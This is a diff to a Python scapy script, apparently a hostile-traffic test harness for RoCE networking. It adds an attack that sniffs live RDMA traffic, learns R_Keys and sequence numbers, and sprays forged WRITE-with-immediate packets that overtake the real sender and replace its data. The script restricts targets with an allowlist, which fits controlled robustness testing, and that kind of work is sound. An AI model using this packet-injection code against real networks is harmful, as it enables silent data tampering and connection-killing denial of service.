@@ -30,14 +30,14 @@ import sys
 import time
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from scapy_build import RETH, padded  # noqa: E402  (also loads scapy's RoCE contrib)
+from scapy_build import IMM, RETH, padded  # noqa: E402  (also loads scapy's RoCE contrib)
 
 from scapy.all import IP, UDP, AsyncSniffer, Ether, Raw, bind_layers  # noqa: E402
 from scapy.contrib.roce import AETH, BTH  # noqa: E402
 
 ROCE_PORT = 4791
 MAX_FLOOD = 100_000  # the issue's bound, whatever is asked
-WRITE_ONLY, SEND_ONLY, ACK = 0x0A, 0x04, 0x11
+WRITE_ONLY, WRITE_ONLY_IMM, SEND_ONLY, ACK = 0x0A, 0x0B, 0x04, 0x11
 WRITE_OPS = {0x06, 0x0A, 0x0B}  # FIRST, ONLY, ONLY with immediate: the ones with a RETH
 # AETH syndromes: ACK (credits 31), NAK PSN sequence error, NAK remote access error.
 SYN_ACK, SYN_NAK_SEQ, SYN_NAK_ACCESS = 0x1F, 0x60, 0x62
@@ -55,7 +55,8 @@ def check_allowed(ip: str, allow: str) -> None:
 
 class Live:
     """What the sniffer learned of the run: the packets heading to the target (templates
-    and replays), the target's MAC, and the last WRITE's R_Key, address and length."""
+    and replays), the target's MAC, the last WRITE's R_Key, address and length, and the
+    immediate of the last WRITE ONLY with immediate."""
 
     def __init__(self):
         self.to_target = []
@@ -63,6 +64,7 @@ class Live:
         self.our_mac = None
         self.our_ip = None
         self.reth = None  # (va, rkey, length) of the newest WRITE to the target
+        self.imm = None  # the immediate of the newest WRITE ONLY with immediate
 
     def ready(self) -> bool:
         return bool(self.to_target) and self.target_mac is not None
@@ -86,6 +88,9 @@ def learn(iface: str, target: str, seconds: float, want_reth: bool, pause_pid: i
             live.our_mac, live.our_ip = pkt[Ether].src, pkt[IP].src
             if pkt[BTH].opcode in WRITE_OPS:
                 live.reth = struct.unpack("!QII", bytes(pkt[BTH].payload)[:16])
+                live.imm = None
+            if pkt[BTH].opcode == WRITE_ONLY_IMM:
+                live.imm = struct.unpack("!I", bytes(pkt[BTH].payload)[16:20])[0]
             ref.append(pkt[BTH].psn) if not ref else None
             ahead = lambda p: (p[BTH].psn - ref[0]) % (1 << 24)  # noqa: E731
             if len(live.to_target) < 256:
@@ -167,16 +172,23 @@ def forge(kind: str, live: Live, target: str) -> list:
     sys.exit(f"hostile: unknown attack {kind}")
 
 
-def spray(live: Live, target: str, count: int, bad_rkey: bool) -> list:
+def spray(live: Live, target: str, count: int, bad_rkey: bool, imm: bool = False) -> list:
     """WRITE_ONLYs at the PSNs just past the newest seen, ascending: one of them lands on
     the PSN the target expects (the live sender is overtaken). With a bad R_Key that is a
-    fatal access error under RoCE; with the live R_Key it replaces a message's data."""
+    fatal access error under RoCE; with the live R_Key it replaces a message's data. With
+    `imm`, WRITE ONLY with immediate, the newest one's immediate (or 0): each takes a
+    receive and completes at the target as the message it replaces would have."""
     t = live.newest()
     qpn, psn, sport = t[BTH].dqpn, t[BTH].psn, t[UDP].sport
     va, rkey, length = live.reth
     rkey = rkey ^ 0x5A5A if bad_rkey else rkey
     data = b"\xEE" * length  # the forged data: recognisable, never what perf writes
-    return [write_only(live, target, sport, qpn, psn + i, va, rkey, data) for i in range(1, count + 1)]
+    if not imm:
+        return [write_only(live, target, sport, qpn, psn + i, va, rkey, data) for i in range(1, count + 1)]
+    body, pad = padded(data)
+    ext = RETH(va, rkey, length) + IMM(live.imm or 0)
+    return [frame(live, target, sport, bth(WRITE_ONLY_IMM, qpn, psn + i, pad), ext + body)
+            for i in range(1, count + 1)]
 
 
 def spray_send(live: Live, target: str, count: int, length: int) -> list:
@@ -225,7 +237,7 @@ def roce(args) -> None:
     kinds = [k for k in args.attacks.split(",") if k]
     # Only the sprays need the live R_Key: the others fall back to made-up values (the
     # target may be the requester, which receives no WRITEs).
-    needs_reth = any(k in ("spray_bad_rkey", "spray_replace") for k in kinds)
+    needs_reth = any(k in ("spray_bad_rkey", "spray_replace", "spray_replace_imm") for k in kinds)
     try:
         live = learn(args.iface, args.target, args.learn_seconds, needs_reth, args.pause_pid)
         check_allowed(live.newest()[IP].dst, args.allow)
@@ -241,8 +253,9 @@ def attack(args, kinds, live) -> None:
     for kind in kinds:
         if kind == "flood":
             continue
-        if kind in ("spray_bad_rkey", "spray_replace"):
-            frames = spray(live, args.target, args.spray, kind == "spray_bad_rkey")
+        if kind in ("spray_bad_rkey", "spray_replace", "spray_replace_imm"):
+            frames = spray(live, args.target, args.spray, kind == "spray_bad_rkey",
+                           kind == "spray_replace_imm")
         elif kind == "spray_send":
             frames = spray_send(live, args.target, args.spray, args.spray_len)
         else:
